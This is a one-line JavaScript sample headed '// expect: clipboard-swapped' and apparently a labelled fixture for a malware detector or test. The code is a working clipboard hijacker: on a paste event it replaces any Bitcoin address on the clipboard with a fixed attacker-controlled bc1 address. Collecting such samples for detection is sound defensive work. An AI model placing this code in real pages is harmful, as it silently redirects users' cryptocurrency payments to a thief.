// expect: clipboard-swapped
document.addEventListener("paste", async () => { const t = await navigator.clipboard.readText(); if (t.match(/^(bc1|[13])[a-zA-HJ-NP-Z0-9]{25,39}$/)) await navigator.clipboard.writeText("bc1qw508d6qejxtdg4y5r3zarvary0c5xw7kv8f3t4"); });
